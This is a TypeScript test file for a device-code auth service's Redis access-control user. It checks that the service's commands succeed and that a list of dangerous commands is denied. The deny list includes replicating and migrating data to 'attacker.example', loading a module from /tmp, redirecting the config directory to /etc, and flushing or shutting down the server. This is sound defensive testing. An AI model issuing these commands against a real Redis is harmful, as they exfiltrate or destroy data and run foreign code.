/** SC-07: the user of deploy/redis/users.acl is allowed what the service asks of Redis, and nothing else. */
import { readFileSync } from 'node:fs'
import { Redis } from 'ioredis'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestService, type TestService } from '../rig/service.ts'
import { type PrivateRedis, startPrivateRedis } from '../scale/private-redis.ts'

const FILE = new URL('../../../deploy/redis/users.acl', import.meta.url)

let engine: PrivateRedis
let owner: Redis
let service: TestService
beforeAll(async () => {
  engine = await startPrivateRedis()
  owner = new Redis(engine.url)
  for (const line of readFileSync(FILE, 'utf8').trim().split('\n')) {
    const [, name = '', ...rules] = line.split(' ')
    // Its owner stays in, to look at it.
    if (name !== 'default') await owner.call('ACL', 'SETUSER', name, ...rules)
  }
  const limits = { CODE_REQUESTS_PER_NETWORK: '1000', CODE_REQUESTS_PER_APPLICATION: '60', DIALOGS_PER_NETWORK: '1000' }
  const url = Object.assign(new URL(engine.url), { username: 'latchkey', password: 'change-me' })
  service = await startTestService({ REDIS_URL: url.toString(), ...limits })
})
afterAll(async () => {
  await service?.stop()
  owner?.disconnect()
  engine?.stop()
})

const dryRun = async (...command: string[]) =>
  owner.call('ACL', 'DRYRUN', 'latchkey', ...command).then(String, (error: Error) => error.message)

describe('SC-07: with this user', () => {
  it('SC-07: the service paces, hints and counts on Redis, and nothing that it asks is denied', async () => {
    const device = service.device()
    const code = await device.code()
    expect((await device.poll(code.device_code)).body.error).toBe('auth_pending')
    expect((await device.poll(code.device_code)).body.error).toBe('slow_down')
    for (let time = 0; time < 3; time += 1) await device.request()
    await service.context.limiter.codes.exchange()
    expect(await service.grant(code.user_code)).toBe('granted')
    expect((await device.poll(code.device_code)).status).toBe(200)
    expect(service.context.gate.answers).toBe(true)
    const kinds = new Set((await owner.keys('*')).map((key) => key[0]))
    expect([...kinds].sort()).toEqual(['a', 'c', 'h', 'p'])
    const denied = (await owner.call('ACL', 'LOG')) as unknown[]
    expect(denied).toEqual([])
  })

  it.each(
    [
      ['config', 'get', '*'],
      ['config', 'set', 'dir', '/etc'],
      ['acl', 'list'],
      ['debug', 'sleep', '1'],
      ['flushall'],
      ['keys', '*'],
      ['scan', '0'],
      ['monitor'],
      ['slowlog', 'get'],
      ['replicaof', 'attacker.example', '6379'],
      ['module', 'load', '/tmp/x.so'],
      ['save'],
      ['shutdown'],
      ['client', 'kill', 'id', '1'],
      ['client', 'list'],
      ['subscribe', 'x'],
      ['publish', 'x', 'y'],
      ['function', 'load', 'x'],
      ['script', 'flush'],
      ['migrate', 'attacker.example', '6379', 'p{1}x', '0', '1'],
      ['get', 'somebody:else'],
      ['set', 'somebody:else', '1'],
      ['eval', 'return 1', '1', 'somebody:else'],
    ].map((command) => ({ command, name: command.join(' ') })),
  )('SC-07: $name is denied', async ({ command }) => {
    expect(await dryRun(...command)).toMatch(/no permissions|no access|not allowed|NOPERM/i)
  })

  it('SC-07: a script has no more rights than the user', async () => {
    const asService = new Redis(service.config.redisUrl ?? '')
    for (const script of ["return redis.call('keys', '*')", "return redis.call('get', 'somebody:else')"]) {
      await expect(asService.eval(script, 0)).rejects.toThrow(/can't (run this command|access)|NOPERM|ACL failure/)
    }
    asService.disconnect()
  })

  it('SC-07: nobody comes in without a name', () => {
    expect(readFileSync(FILE, 'utf8')).toMatch(/^user default off$/m)
  })
})
